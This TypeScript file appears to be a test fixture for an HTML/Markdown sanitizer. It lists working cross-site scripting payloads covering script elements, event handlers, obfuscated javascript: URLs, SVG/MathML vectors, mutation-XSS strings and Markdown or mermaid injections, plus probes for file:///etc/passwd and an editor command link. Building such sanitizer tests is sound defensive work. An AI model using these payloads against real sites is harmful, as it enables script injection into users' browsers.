/*
 * Known ways to run a script from rendered HTML: by elements, events, addresses, SVG and MathML,
 * parser differences, and Markdown's own syntax. All of them call `pwned()`.
 */

const code = 'pwned()';

/** Elements that run or load something. */
const elements = [
  `<script>${code}</script>`,
  `<SCRIPT>${code}</SCRIPT >`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<script src="data:text/javascript,${code}"></script>`,
  `<script type="module">${code}</script>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<iframe src="javascript:parent.${code}"></iframe>`,
  `<object data="javascript:${code}"></object>`,
  `<object data="data:text/html,<script>${code}</script>"></object>`,
  `<embed src="javascript:${code}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  `<base href="javascript:${code}//">`,
  `<link rel="import" href="data:text/html,<script>${code}</script>">`,
  `<link rel="stylesheet" href="javascript:${code}">`,
  `<style>@import 'javascript:${code}';</style>`,
  `<style>* { background: url("javascript:${code}") }</style>`,
  `<form action="javascript:${code}"><button>Send</button></form>`,
  `<form id="x"></form><button form="x" formaction="javascript:${code}">Send</button>`,
  `<isindex type="image" src="x" onerror="${code}">`,
  `<template><script>${code}</script></template>`,
  `<portal src="javascript:${code}"></portal>`,
  `<frameset onload="${code}"><frame src="javascript:${code}"></frameset>`,
  `<dialog open onclose="${code}"><form method="dialog"><button autofocus>x</button></form></dialog>`,
];

/** Attributes that are code. */
const events = [
  `<img src="x" onerror="${code}">`,
  `<img src=x onerror=${code}//`,
  `<img/src="x"/onerror=${code}>`,
  `<IMG """><script>${code}</script>">`,
  `<body onload="${code}">`,
  `<svg onload="${code}">`,
  `<svg/onload=${code}>`,
  `<details open ontoggle="${code}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${code}">`,
  `<select autofocus onfocus="${code}"><option>x</option></select>`,
  `<textarea autofocus onfocus="${code}"></textarea>`,
  `<div contenteditable autofocus onfocus="${code}">x</div>`,
  `<video><source onerror="${code}"></video>`,
  `<video src="x" onerror="${code}"></video>`,
  `<audio src="x" onerror="${code}"></audio>`,
  `<marquee onstart="${code}">x</marquee>`,
  `<div onpointerover="${code}" style="position:fixed;inset:0">x</div>`,
  `<div style="animation:x 1s" onanimationstart="${code}">x</div>`,
  `<p onbeforetoggle="${code}" popover id="p">x</p>`,
  `<xss onclick="${code}" tabindex="1" autofocus onfocus="${code}">x</xss>`,
  `<label for="t" onclick="${code}">x</label><input id="t" type="checkbox" onchange="${code}">`,
];

/** Script addresses, in all spellings that parsers accept. */
const addresses = [
  `<a href="javascript:${code}">x</a>`,
  `<a href="JaVaScRiPt:${code}">x</a>`,
  `<a href=" &#14; javascript:${code}">x</a>`,
  `<a href="jav&#x09;ascript:${code}">x</a>`,
  `<a href="jav&#x0A;ascript:${code}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${code}">x</a>`,
  `<a href="javascript&colon;${code}">x</a>`,
  `<a href="data:text/html,<script>${code}</script>">x</a>`,
  `<a href="vbscript:${code}">x</a>`,
  `<a href="command:workbench.action.terminal.new">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<area href="javascript:${code}">`,
  `<img src="javascript:${code}">`,
  `<img src="file:///etc/passwd">`,
  `<img srcset="x 1x, javascript:${code} 2x">`,
  `<table background="javascript:${code}"><tr><td>x</td></tr></table>`,
  `<div style="background-image:url(javascript:${code})">x</div>`,
  `<div style="width:expression(${code})">x</div>`,
  `<a href="https://example.com" ping="https://example.com" target="_top">x</a>`,
];

/** SVG and MathML. */
const foreign = [
  `<svg><script>${code}</script></svg>`,
  `<svg><script href="data:text/javascript,${code}" /></svg>`,
  `<svg><a xlink:href="javascript:${code}"><text y="9">x</text></a></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${code}"/><text y="9">x</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${code}"/></svg>`,
  `<svg><animate onbegin="${code}" attributeName="x" dur="1s"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${code}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${code}</script>"></iframe></foreignObject></svg>`,
  `<svg><image href="x" onerror="${code}"/></svg>`,
  `<svg><style>@import 'javascript:${code}';</style></svg>`,
  `<svg><image href="https://example.com/a.png" width="9" height="9"/><image xlink:href="https://example.com/b.png"/></svg>`,
  `<svg><rect width="9" height="9" fill="url(https://example.com/a.svg#x)" mask="url(https://example.com/a.svg#x)"/></svg>`,
  `<svg><rect width="9" height="9" clip-path="u\\72l(https://example.com/a.svg#x)" cursor="url('https://example.com/a.cur'), auto"/></svg>`,
  `<svg><filter id="f"><feImage href="https://example.com/a.png"/></filter><rect filter="url(#f)"/></svg>`,
  `<svg><linearGradient id="g" href="https://example.com/a.svg#g"/><textPath href="https://example.com/a.svg#g">x</textPath></svg>`,
  `<svg><a xlink:href="https://example.com/"><text y="9">x</text></a></svg>`,
  `<table background="https://example.com/a.png"><tr><td>x</td></tr></table>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${code}">x</maction></math>`,
  `<math href="javascript:${code}">x</math>`,
];

/** Markup that changes when serialized and parsed again. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${code}'>"></style></h1>`,
  `<listing>&lt;img onerror="${code}" src=x&gt;</listing>`,
  `<textarea><img title="</textarea><img src=x onerror=${code}>"></textarea>`,
  `<xmp><img title="</xmp><img src=x onerror=${code}>"></xmp>`,
  `<title><img title="</title><img src=x onerror=${code}>"></title>`,
  `<!--<img src="--><img src=x onerror=${code}//">`,
  `<![CDATA[<img src=x onerror=${code}>]]>`,
  `<?xml-stylesheet href="javascript:${code}"?>`,
  `<select><template><img src=x onerror=${code}></template></select>`,
  `<table><td><svg><desc><td></desc></svg><img src=x onerror=${code}></table>`,
];

/** Markdown syntax for links and attributes. */
const markdown = [
  `[x](javascript:${code})`,
  `[x](<javascript:${code}>)`,
  `[x](java\nscript:${code})`,
  `[x][y]\n\n[y]: javascript:${code}`,
  `![x](javascript:${code})`,
  `![x](x){ onerror="${code}" }`,
  `[x](https://example.com){ onclick="${code}" href="javascript:${code}" }`,
  `# x { onclick="${code}" id="</h1><script>${code}</script>" }`,
  `x\n{ onpointerover="${code}" style="position:fixed;inset:0" }`,
  `<javascript:${code}>`,
  `!!! note "<img src=x onerror=${code}>"\n    x`,
  `=== "<img src=x onerror=${code}>"\n    x`,
  `\`\`\`yaml title="<img src=x onerror=${code}>"\nx\n\`\`\``,
  `\`\`\`"><img src=x onerror=${code}>\nx\n\`\`\``,
  `*[HTML]: "><img src=x onerror=${code}>\n\nHTML`,
  `x[^1]\n\n[^1]: <img src=x onerror=${code}>`,
  `| a |\n| - |\n| <img src=x onerror=${code}> |`,
  `\`\`\`mermaid\nflowchart LR\n  A["<img src=x onerror=${code}>"] --> B\n  click B href "javascript:${code}"\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart LR\n  A["<img src=x onerror=${code}>"]\n\`\`\``,
  `<div markdown="1" onclick="${code}">[x](javascript:${code})</div>`,
];

export const hostileMarkup: readonly string[] = [
  ...elements,
  ...events,
  ...addresses,
  ...foreign,
  ...mutations,
  ...markdown,
];
